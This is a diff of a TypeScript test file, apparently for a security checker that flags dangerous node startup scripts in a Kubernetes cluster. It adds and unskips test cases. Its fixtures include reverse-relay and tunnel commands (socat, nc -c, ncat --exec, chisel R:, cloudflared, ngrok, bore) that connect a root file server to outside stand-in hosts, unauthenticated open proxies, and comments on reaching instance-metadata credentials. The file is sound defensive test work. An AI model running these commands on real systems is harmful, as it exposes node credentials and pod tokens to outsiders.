@@ -51,7 +51,7 @@ const insecure: NodeCase[] = [
         ]),
         SOCKET,
     ),
-    // MISS: socat(1) "DESCRIPTION": socat "establishes two bidirectional byte streams and transfers data between them";
+    // Was a MISS (fixed in round 56): socat(1) "DESCRIPTION": socat "establishes two bidirectional byte streams and transfers data between them";
     // with two connecting addresses (TCP:HOST:PORT twice; `forever,interval=` retries the connect, socat(1) "ADDRESS
     // OPTIONS") it joins bastion.example.com:4444 to miniserve on 127.0.0.1:8000: whoever holds the bastion's port reads
     // root's whole file system (the kubelet's credentials, every pod's token). commandForwarders reads a socat only
@@ -67,9 +67,8 @@ const insecure: NodeCase[] = [
             ]),
             RELAY,
         ),
-        skip: true,
     },
-    // MISS: Ncat Users' Guide, "Command execution": --sh-exec/-c and --exec/-e work in connect mode too ("ncat
+    // Was a MISS (fixed in round 56): Ncat Users' Guide, "Command execution": --sh-exec/-c and --exec/-e work in connect mode too ("ncat
     // --exec ... HOST PORT" hands the connection to the program, the reverse-shell form); here the program is `ncat
     // 127.0.0.1 8000`, so the connection ncat makes to bastion.example.com:4444 is relayed to miniserve /.
     // servedForwarders reads an ncat's served program only when ncat listens. Fix: read ncat -e/-c in connect mode as a
@@ -83,9 +82,8 @@ const insecure: NodeCase[] = [
             ]),
             RELAY,
         ),
-        skip: true,
     },
-    // MISS: chisel README ("Usage", client remotes): `R:<local-interface>:<local-port>:<remote-host>:<remote-port>`
+    // Was a MISS (fixed in round 56): chisel README ("Usage", client remotes): `R:<local-interface>:<local-port>:<remote-host>:<remote-port>`
     // "reverse" remotes listen on the chisel SERVER and are dialled from the client: R:8080:127.0.0.1:8000 puts
     // miniserve / on tunnel.example.com:8080. The pack reads ssh -R and gost rtcp:// this way, not chisel; chisel client
     // has no listen word, so unreadListeners sees nothing. Fix: read `chisel client SERVER R:...` as ssh -R.
@@ -98,9 +96,8 @@ const insecure: NodeCase[] = [
             ]),
             RELAY,
         ),
-        skip: true,
     },
-    // MISS: Cloudflare docs, "Quick Tunnels" (TryCloudflare): `cloudflared tunnel --url http://localhost:8080` "will
+    // Was a MISS (fixed in round 56): Cloudflare docs, "Quick Tunnels" (TryCloudflare): `cloudflared tunnel --url http://localhost:8080` "will
     // generate a random subdomain on trycloudflare.com" proxying to the local URL: miniserve / becomes public on the
     // internet, no access control. No listener on the node, so no rule reads it. Fix: read `cloudflared tunnel --url
     // URL` (and `--unix-socket`) as a forwarder from another host to URL's end.
@@ -113,10 +110,9 @@ const insecure: NodeCase[] = [
             ]),
             RELAY,
         ),
-        skip: true,
     },
     // --- Tunnel servers and forward proxies on every address by default (no address word) ---
-    // MISS: chisel README, `chisel server --help`: "--host, Defines the HTTP listening host – the network interface
+    // Was a MISS (fixed in round 56): chisel README, `chisel server --help`: "--host, Defines the HTTP listening host – the network interface
     // (defaults the environment variable HOST and falls back to 0.0.0.0)"; without --auth/--authfile any client may
     // open forward remotes through it ("<remote-host>:<remote-port>" dialled by the server): a pod running `chisel
     // client http://NODE:8080 9000:169.254.169.254:80` reads the node role from instance metadata (the hop limit does
@@ -128,9 +124,8 @@ const insecure: NodeCase[] = [
             devNodeScript("dev-chisel-server-nodes", ["nohup chisel server --port 8080 &"]),
             PROXY,
         ),
-        skip: true,
     },
-    // MISS: pproxy README (qwj/python-proxy): "pproxy ... Serving on :8080 by http,socks4,socks5" with no arguments,
+    // Was a MISS (fixed in round 56): pproxy README (qwj/python-proxy): "pproxy ... Serving on :8080 by http,socks4,socks5" with no arguments,
     // `-l` "tcp server uri (default: http+socks4+socks5://:8080/)": an unauthenticated HTTP/SOCKS proxy on every
     // address, through which every pod reaches instance metadata and the node's loopback. Its `-l socks5://:1080` has
     // an empty host inside a URI, not a `:PORT` operand (EMPTY_HOST), so unreadListeners does not see it.
@@ -141,9 +136,8 @@ const insecure: NodeCase[] = [
             devNodeScript("dev-pproxy-socks-nodes", ["nohup pproxy -l socks5://:1080 &"]),
             PROXY,
         ),
-        skip: true,
     },
-    // MISS: 3proxy(8)/3proxy.cfg(3): `proxy` and `socks` services listen "-i internal_ip ... (default 0.0.0.0)", and
+    // Was a MISS (fixed in round 56): 3proxy(8)/3proxy.cfg(3): `proxy` and `socks` services listen "-i internal_ip ... (default 0.0.0.0)", and
     // `auth none` admits every client: an open HTTP and SOCKS proxy to instance metadata. The command names only a
     // config file. Fix: read 3proxy.cfg (service lines, -i, auth) or refuse a root 3proxy with an unread config.
     {
@@ -155,7 +149,6 @@ const insecure: NodeCase[] = [
             ]),
             PROXY,
         ),
-        skip: true,
     },
     devNodeCase(
         "danted -D -f /etc/danted.conf (internal: eth0 port 1080, socksmethod none, pass from 0.0.0.0/0)",
@@ -231,6 +224,136 @@ const insecure: NodeCase[] = [
             /user|run|socket|hostPath|node/,
         ),
     },
+    // Neighbours of the round-56 fixes (dialledOutForwarders; chisel, pproxy and 3proxy readers).
+    devNodeCase(
+        "socat TCP:bastion.example.com:4444 EXEC:'ncat 127.0.0.1 8000' (a reverse relay through a program) before miniserve /",
+        devNodeScript("dev-socat-reverse-exec-lo-nodes", [
+            LO_ROOT,
+            `nohup socat TCP:bastion.example.com:4444,forever "EXEC:ncat 127.0.0.1 8000" &`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "socat TCP:$RELAY_HOST:4444 TCP:127.0.0.1:8000 (a far end the pack cannot read) before miniserve /",
+        devNodeScript("dev-socat-reverse-var-lo-nodes", [
+            LO_ROOT,
+            `nohup socat "TCP:$RELAY_HOST:4444,forever" TCP:127.0.0.1:8000 &`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "nc -c 'nc localhost 8000' bastion.example.com 4444 (connect mode) before miniserve /",
+        devNodeScript("dev-nc-connect-exec-lo-nodes", [
+            LO_ROOT,
+            `nohup nc -c "nc localhost 8000" bastion.example.com 4444 &`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "chisel client -auth u:p tunnel.example.com:443 R:8000 (remote host defaults to localhost) before miniserve /",
+        devNodeScript("dev-chisel-reverse-default-lo-nodes", [
+            LO_ROOT,
+            "nohup chisel client -auth u:p tunnel.example.com:443 R:8000 &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "chisel client https://tunnel.example.com R:socks (a SOCKS server on the far end) before miniserve /",
+        devNodeScript("dev-chisel-reverse-socks-nodes", [
+            LO_ROOT,
+            "nohup chisel client https://tunnel.example.com R:socks &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "cloudflared tunnel run (config.yml ingress service: http://localhost:8000) before miniserve /",
+        devNodeScript("dev-cloudflared-ingress-lo-nodes", [
+            LO_ROOT,
+            ...file("/etc/cloudflared/config.yml", [
+                "tunnel: 6ff42ae2-765d-4adf-8112-31c55c1551ef",
+                "credentials-file: /etc/cloudflared/6ff42ae2.json",
+                "ingress:",
+                "  - hostname: files.example.com",
+                "    service: http://localhost:8000",
+                "  - service: http_status:404",
+            ]),
+            "nohup cloudflared tunnel run &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "cloudflared tunnel run --token $TOKEN (routes kept by Cloudflare, unread) before miniserve /",
+        devNodeScript("dev-cloudflared-token-lo-nodes", [LO_ROOT, `nohup cloudflared tunnel run --token "$TOKEN" &`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "cloudflared tunnel --unix-socket /run/containerd/containerd.sock (containerd on a public hostname)",
+        devNodeScript("dev-cloudflared-containerd-nodes", [
+            "nohup cloudflared tunnel --unix-socket /run/containerd/containerd.sock &",
+        ]),
+        SOCKET,
+    ),
+    devNodeCase(
+        "cloudflared --loglevel info --url localhost:8000 (the legacy quick-tunnel form) before miniserve /",
+        devNodeScript("dev-cloudflared-legacy-lo-nodes", [
+            LO_ROOT,
+            "nohup cloudflared --loglevel info --url localhost:8000 &",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "ngrok http 8000 before miniserve /",
+        devNodeScript("dev-ngrok-lo-nodes", [LO_ROOT, "nohup ngrok http 8000 &"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "bore local 8000 --to bore.pub before miniserve /",
+        devNodeScript("dev-bore-lo-nodes", [LO_ROOT, "nohup bore local 8000 --to bore.pub &"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "chisel server -port 9000 -reverse (Go single-dash flags, every address, no auth)",
+        devNodeScript("dev-chisel-server-reverse-nodes", ["nohup chisel server -port 9000 -reverse &"]),
+        PROXY,
+    ),
+    devNodeCase(
+        "pproxy (no arguments: http+socks4+socks5://:8080/)",
+        devNodeScript("dev-pproxy-default-nodes", ["nohup pproxy &"]),
+        PROXY,
+    ),
+    devNodeCase(
+        "python3 -m pproxy -l socks5://:1080 (an empty host in a URI: every address)",
+        devNodeScript("dev-pproxy-module-nodes", ["nohup python3 -m pproxy -l socks5://:1080 &"]),
+        PROXY,
+    ),
+    devNodeCase(
+        "3proxy /etc/3proxy/3proxy.cfg (a configuration user data does not write)",
+        devNodeScript("dev-3proxy-unread-nodes", ["nohup 3proxy /etc/3proxy/3proxy.cfg &"]),
+        PROXY,
+    ),
+    devNodeCase(
+        "3proxy with auth strong for proxy, then `auth none` before socks -p1080 (every address)",
+        devNodeScript("dev-3proxy-auth-none-socks-nodes", [
+            ...file("/etc/3proxy.cfg", [
+                "users ops:CL:s3cret",
+                "auth strong",
+                "proxy -p3128",
+                "auth none",
+                "socks -p1080",
+            ]),
+            "nohup 3proxy /etc/3proxy.cfg &",
+        ]),
+        PROXY,
+    ),
+    devNodeCase(
+        "3proxy tcppm -i0.0.0.0 8080 127.0.0.1 8000 (a port mapper) before miniserve /",
+        devNodeScript("dev-3proxy-tcppm-lo-nodes", [
+            LO_ROOT,
+            ...file("/etc/3proxy.cfg", ["internal 127.0.0.1", "tcppm -i0.0.0.0 8080 127.0.0.1 8000"]),
+            "nohup 3proxy /etc/3proxy.cfg &",
+        ]),
+        RELAY,
+    ),
     // Neighbours of the round-56 fix (every user's runtime directory is a root-power place): rootless Podman's API of
     // ec2-user relayed to the network, and /run/user mounted whole by a pod of another uid.
     devNodeCase(
@@ -284,6 +407,77 @@ const secure: NodeCase[] = [
         ]),
     ),
     devNodeCase("loginctl enable-linger ec2-user (alone)", devNodeScript("dev-linger-alone-nodes", [LINGER])),
+    // Neighbours of the round-56 fixes.
+    devNodeCase(
+        "socat TCP:bastion.example.com:4444 TCP:10.0.5.20:8000 beside miniserve / on loopback (another host's service)",
+        devNodeScript("dev-socat-reverse-remote-nodes", [
+            LO_ROOT,
+            "nohup socat TCP:bastion.example.com:4444,forever TCP:10.0.5.20:8000 &",
+        ]),
+    ),
+    devNodeCase(
+        "ncat --sh-exec 'ncat 10.0.5.20 8000' bastion.example.com 4444 beside miniserve / on loopback",
+        devNodeScript("dev-ncat-connect-exec-remote-nodes", [
+            LO_ROOT,
+            `nohup ncat --sh-exec "ncat 10.0.5.20 8000" bastion.example.com 4444 &`,
+        ]),
+    ),
+    devNodeCase(
+        "chisel client https://tunnel.example.com R:8080:10.0.5.20:8000 beside miniserve / on loopback",
+        devNodeScript("dev-chisel-reverse-remote-nodes", [
+            LO_ROOT,
+            "nohup chisel client https://tunnel.example.com R:8080:10.0.5.20:8000 &",
+        ]),
+    ),
+    devNodeCase(
+        "cloudflared tunnel --url http://localhost:3000 (a quick tunnel to an ordinary app)",
+        devNodeScript("dev-cloudflared-quick-app-nodes", ["nohup cloudflared tunnel --url http://localhost:3000 &"]),
+    ),
+    devNodeCase(
+        "cloudflared access tcp --hostname ssh.example.com --url localhost:2222 (a client) beside miniserve / on loopback",
+        devNodeScript("dev-cloudflared-access-nodes", [
+            LO_ROOT,
+            "nohup cloudflared access tcp --hostname ssh.example.com --url localhost:2222 &",
+        ]),
+    ),
+    devNodeCase(
+        "chisel server --port 8080 --authfile /etc/chisel/users.json (every address, authenticated)",
+        devNodeScript("dev-chisel-server-auth-nodes", [
+            "nohup chisel server --port 8080 --authfile /etc/chisel/users.json &",
+        ]),
+    ),
+    devNodeCase(
+        "pproxy -l socks5://:1080#ops:s3cret (every address, authenticated)",
+        devNodeScript("dev-pproxy-auth-nodes", ["nohup pproxy -l 'socks5://:1080#ops:s3cret' &"]),
+    ),
+    devNodeCase(
+        "3proxy /etc/3proxy.cfg (auth strong; proxy -p3128; socks -p1080)",
+        devNodeScript("dev-3proxy-strong-nodes", [
+            ...file("/etc/3proxy.cfg", [
+                "users ops:CL:s3cret",
+                "auth strong",
+                "allow ops",
+                "proxy -p3128",
+                "socks -p1080",
+            ]),
+            "nohup 3proxy /etc/3proxy.cfg &",
+        ]),
+    ),
+    devNodeCase(
+        "3proxy /etc/3proxy.cfg (internal 127.0.0.1; auth none; proxy -p3128)",
+        devNodeScript("dev-3proxy-lo-nodes", [
+            ...file("/etc/3proxy.cfg", ["internal 127.0.0.1", "auth none", "proxy -p3128", "socks -p1080"]),
+            "nohup 3proxy /etc/3proxy.cfg &",
+        ]),
+    ),
+    devNodeCase(
+        "3proxy tcppm 8080 10.0.5.20 8000 beside miniserve / on loopback (another host's service)",
+        devNodeScript("dev-3proxy-tcppm-remote-nodes", [
+            LO_ROOT,
+            ...file("/etc/3proxy.cfg", ["tcppm 8080 10.0.5.20 8000"]),
+            "nohup 3proxy /etc/3proxy.cfg &",
+        ]),
+    ),
 ];
 
 describeNodeCases("red team 56: node user data and pod specs (fresh eyes)", insecure, secure);
